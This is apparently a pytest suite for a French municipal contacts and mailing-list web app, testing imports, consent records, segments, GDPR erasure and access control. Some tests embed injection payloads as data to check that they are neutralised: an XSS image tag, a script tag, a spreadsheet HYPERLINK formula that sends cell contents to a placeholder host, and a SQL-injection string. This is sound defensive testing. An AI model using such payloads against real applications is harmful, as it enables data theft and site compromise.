"""Contacts pages: lists, contact timeline, import wizard, suppression list, segments, GDPR."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import func, select

from contacts import consent, consent_history, people, suppression
from contacts.db import db
from contacts.models import Contact, ImportBatch, MailingList, Segment
from tests.factories import make_list, make_org
from tests.factories_contacts import make_contact, secret

DATA = Path(__file__).resolve().parents[2] / "data"


def _upload(client, lst, name: str, content: bytes | None = None):
    data = content if content is not None else (DATA / name).read_bytes()
    return client.post(
        f"/contacts/lists/{lst.id}/import",
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def _hidden(html: str, name: str) -> str:
    found = re.search(rf'name="{name}" value="([^"]*)"', html)
    assert found, name
    return found.group(1).replace("&#34;", '"').replace("&quot;", '"')


def test_the_lists_page_shows_counts_and_risky_members(client, login_as, org):
    login_as("officer")
    lst = make_list(org, name="Lettre du maire")
    make_contact(org, lst)
    make_contact(org, lst, source="purchased", confirmed=False)
    db.session.commit()
    page = client.get("/contacts/").get_data(as_text=True)
    assert "Lettre du maire" in page and "badge-risk" in page
    detail = client.get(f"/contacts/lists/{lst.id}").get_data(as_text=True)
    assert "fichier acheté" in detail and "reconsentement" in detail
    assert "<iframe src=" not in detail  # the snippet is shown as text, escaped
    assert "&lt;iframe src=" in detail and "/subscribe/" in detail


def test_an_officer_creates_a_list_with_custom_fields(client, login_as, org):
    login_as("officer")
    response = client.post(
        "/contacts/lists/new",
        data={
            "name": "Conseil de quartier",
            "purpose": "invitations",
            "custom_fields": "Quartier, Rôle",
        },
    )
    assert response.status_code == 302
    lst = db.session.scalars(select(MailingList)).one()
    assert (lst.purpose, lst.custom_fields, lst.double_opt_in) == (
        "invitations",
        ["quartier", "role"],
        False,
    )


def test_the_contact_page_shows_the_consent_timeline_escaped(client, login_as, org):
    login_as("officer")
    lst = make_list(org, double_opt_in=True)
    contact = make_contact(org, lst, first_name="<img src=x onerror=alert(1)>")
    consent.record_consent(org.id, contact.id, lst.id, "withdraw", evidence={"method": "test"})
    db.session.commit()
    page = client.get(f"/contacts/people/{contact.id}").get_data(as_text=True)
    assert "<img src=x" not in page and "&lt;img src=x" in page
    assert page.index("inscription") < page.index("confirmation") < page.index("retrait")


def test_the_import_wizard_guesses_columns_and_runs_the_job(
    client, login_as, org, stub_broker, stub_worker
):
    login_as("officer")
    lst = make_list(org)
    db.session.commit()
    preview = _upload(client, lst, "excel-cp1252-semicolon.csv")
    html = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert re.search(r'name="col-0">.*?value="email" selected', html, re.S)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>alert(1)" not in html
    response = client.post(
        f"/contacts/lists/{lst.id}/import/run",
        data={
            "upload_id": _hidden(html, "upload_id"),
            "filename": _hidden(html, "filename"),
            "format": _hidden(html, "format"),
            "col-0": "email",
            "col-1": "first_name",
            "col-2": "last_name",
            "col-3": "new:Commune",
            "source": "event_signup",
            "legal_basis": "consent",
            "attestation": "Inscrits au forum des associations",
        },
    )
    assert response.status_code == 302
    batch_id = int(response.headers["Location"].rstrip("/").rsplit("/", 1)[1])
    stub_broker.join("imports")
    stub_worker.join()
    status = client.get(f"/contacts/imports/{batch_id}/status").get_json()
    assert status["status"] == "done" and status["imported"] == 5
    page = client.get(f"/contacts/imports/{batch_id}").get_data(as_text=True)
    assert "il manque le signe @" in page
    db.session.expire_all()
    assert people.find_contact(org.id, "marie.lefevre@mairie-exemple.fr").fields == {
        "commune": "Saint-Étienne"
    }
    assert db.session.get(MailingList, lst.id).custom_fields == ["commune"]


def test_the_progress_page_has_a_progress_bar_and_its_script(client, login_as, org):
    login_as("officer")
    lst = make_list(org)
    batch = ImportBatch(
        organisation_id=org.id,
        list_id=lst.id,
        source="internal_file",
        legal_basis="consent",
        status="running",
        total_rows=10,
        processed_rows=4,
    )
    db.session.add(batch)
    db.session.commit()
    page = client.get(f"/contacts/imports/{batch.id}").get_data(as_text=True)
    assert '<progress id="import-bar" max="10" value="4">' in page
    assert "import-progress.js" in page
    assert client.get("/static/import-progress.js").status_code == 200


def test_the_report_download_is_safe_to_open_in_a_spreadsheet(client, login_as, org):
    login_as("officer")
    lst = make_list(org)
    batch = ImportBatch(
        organisation_id=org.id,
        list_id=lst.id,
        source="internal_file",
        legal_basis="consent",
        status="done",
        rejected=[
            {
                "row": 2,
                "value": '=HYPERLINK("http://x?"&A1)',
                "reason": "Adresse invalide",
                "kind": "invalid",
            }
        ],
    )
    db.session.add(batch)
    db.session.commit()
    response = client.get(f"/contacts/imports/{batch.id}/report.csv")
    text = response.get_data().decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text
    assert "attachment" in response.headers["Content-Disposition"]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("image-renamed.csv", "ni un CSV"),
        ("empty.csv", "vide"),
        ("no-email-column.csv", "Aucune colonne"),
    ],
)
def test_an_unreadable_upload_is_refused_at_once(client, login_as, org, name, words):
    login_as("officer")
    lst = make_list(org)
    db.session.commit()
    response = _upload(client, lst, name)
    assert response.status_code == 400 and words in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count(ImportBatch.id))) == 0


@pytest.mark.parametrize("app_config", [{"CRIEUR_IMPORT_MAX_BYTES": 200}])
def test_an_upload_over_the_configured_limit_is_refused(client, login_as, org, app_config, app):
    login_as("officer")
    lst = make_list(org)
    db.session.commit()
    response = _upload(client, lst, "excel-cp1252-semicolon.csv")
    assert response.status_code == 400 and "taille maximale" in response.get_data(as_text=True)
    assert not any((Path(app.instance_path) / "imports").rglob("*.csv"))


def test_a_risky_import_needs_its_origin_and_attestation(client, login_as, org):
    login_as("officer")
    lst = make_list(org)
    db.session.commit()
    html = _upload(client, lst, "headerless.csv").get_data(as_text=True)
    response = client.post(
        f"/contacts/lists/{lst.id}/import/run",
        data={
            "upload_id": _hidden(html, "upload_id"),
            "format": _hidden(html, "format"),
            "col-0": "email",
            "source": "purchased",
            "legal_basis": "consent",
            "attestation": "",
        },
    )
    assert (
        response.status_code == 400
        and "Indiquez d&#39;où vient le fichier" in response.get_data(as_text=True)
    )
    assert db.session.scalar(select(func.count(ImportBatch.id))) == 0


def test_gdpr_export_and_erasure_from_the_contact_page(client, login_as, org):
    login_as("officer")
    lst = make_list(org)
    contact = make_contact(org, lst, email="efface@exemple.fr", first_name="Eve")
    db.session.commit()
    export = client.get(f"/contacts/people/{contact.id}/export")
    data = json.loads(export.get_data())
    assert data["contact"]["email"] == "efface@exemple.fr"
    assert [e["action"] for e in data["consent_history"]] == ["grant"]
    assert data["deliveries"] == [] and data["events"] == []
    client.post(f"/contacts/people/{contact.id}/erase", data={"confirm": "1"})
    db.session.expire_all()
    erased = db.session.get(Contact, contact.id)
    assert (erased.status, erased.first_name) == ("erased", "")
    assert "efface" not in erased.email
    assert suppression.is_suppressed(org.id, "efface@exemple.fr", secret())
    assert consent_history.consent_history(org.id, contact.id)[-1].action == "withdraw"


def test_the_suppression_page_checks_and_adds_an_address(client, login_as, org):
    login_as("officer")
    check = client.post("/contacts/suppressions", data={"email": "x@exemple.fr", "action": "check"})
    assert "n'est pas sur la liste" in check.get_data(as_text=True)
    client.post("/contacts/suppressions", data={"email": "X@exemple.fr", "action": "add"})
    assert suppression.is_suppressed(org.id, "x@exemple.fr", secret())


def test_a_segment_is_saved_from_the_form_and_counted_live(client, login_as, org):
    login_as("officer")
    lst = make_list(org)
    make_contact(org, lst)
    make_contact(org, lst, source="purchased", confirmed=False)
    db.session.commit()
    form = {
        "name": "Acheté",
        "match": "all",
        "rule-0-field": "source",
        "rule-0-op": "in",
        "rule-0-value": "purchased",
    }
    assert client.post("/contacts/segments/count", data=form).get_json() == {"count": 1}
    assert client.post("/contacts/segments/new", data=form).status_code == 302
    assert db.session.scalars(select(Segment)).one().name == "Acheté"


def test_a_segment_with_an_unknown_operator_is_refused(client, login_as, org):
    login_as("officer")
    bad = {
        "name": "x",
        "rule-0-field": "status",
        "rule-0-op": "' OR 1=1 --",
        "rule-0-value": "active",
    }
    assert client.post("/contacts/segments/count", data=bad).status_code == 400
    assert client.post("/contacts/segments/new", data=bad).status_code == 400
    response = client.post(
        "/contacts/segments/count",
        json={"filter": {"rules": [{"field": "password", "op": "eq", "value": "x"}]}},
    )
    assert response.status_code == 400
    assert db.session.scalar(select(func.count(Segment.id))) == 0


def test_an_analyst_cannot_see_contacts(client, login_as):
    login_as("analyst")
    assert client.get("/contacts/").status_code == 403
    assert client.get("/contacts/people").status_code == 403


def test_a_director_reads_but_cannot_erase(client, login_as, org):
    login_as("director")
    contact = make_contact(org, make_list(org))
    db.session.commit()
    assert client.get(f"/contacts/people/{contact.id}").status_code == 200
    assert (
        client.post(f"/contacts/people/{contact.id}/erase", data={"confirm": "1"}).status_code
        == 403
    )


def test_every_page_with_another_bodys_ids_is_not_found(client, login_as, org):
    login_as("officer")
    other = make_org()
    lst = make_list(other)
    contact = make_contact(other, lst)
    batch = ImportBatch(
        organisation_id=other.id, list_id=lst.id, source="internal_file", legal_basis="consent"
    )
    seg = Segment(organisation_id=other.id, name="x", filter={"rules": []})
    db.session.add_all([batch, seg])
    db.session.commit()
    gets = [
        f"/contacts/lists/{lst.id}",
        f"/contacts/lists/{lst.id}/edit",
        f"/contacts/lists/{lst.id}/export.csv",
        f"/contacts/lists/{lst.id}/import",
        f"/contacts/people/{contact.id}",
        f"/contacts/people/{contact.id}/export",
        f"/contacts/imports/{batch.id}",
        f"/contacts/imports/{batch.id}/status",
        f"/contacts/imports/{batch.id}/report.csv",
        f"/contacts/segments/{seg.id}",
    ]
    for url in gets:
        assert client.get(url).status_code == 404, url
    posts = [
        (f"/contacts/lists/{lst.id}/edit", {"name": "pirate"}),
        (f"/contacts/lists/{lst.id}/import", {"file": (io.BytesIO(b"email\na@b.fr\n"), "a.csv")}),
        (f"/contacts/lists/{lst.id}/import/run", {"upload_id": "0" * 32}),
        (f"/contacts/people/{contact.id}", {"first_name": "pirate"}),
        (f"/contacts/people/{contact.id}/erase", {"confirm": "1"}),
        (f"/contacts/people/{contact.id}/unsubscribe", {}),
        (f"/contacts/segments/{seg.id}", {"action": "delete"}),
    ]
    for url, data in posts:
        assert client.post(url, data=data).status_code == 404, url
    db.session.expire_all()
    assert db.session.get(Contact, contact.id).status == "active"
    assert db.session.get(MailingList, lst.id).name != "pirate"
    assert db.session.get(Segment, seg.id) is not None


def test_contacts_without_activity_past_the_retention_period_are_flagged(client, login_as, org):
    import datetime as dt

    from contacts import gdpr
    from contacts.db import utcnow

    login_as("officer")
    lst = make_list(org)
    old = make_contact(org, lst, email="ancien@exemple.fr")
    recent = make_contact(org, lst, email="recent@exemple.fr")
    old.created_at = utcnow() - dt.timedelta(days=4 * 365)
    old.last_activity_at = None
    recent.last_activity_at = utcnow() - dt.timedelta(days=10)
    db.session.commit()
    assert gdpr.count_stale(org.id, 36) == 1
    page = client.get("/contacts/people?stale=1").get_data(as_text=True)
    assert "ancien@exemple.fr" in page and "recent@exemple.fr" not in page
    assert "reconsentement" in client.get(f"/contacts/people/{old.id}").get_data(as_text=True)
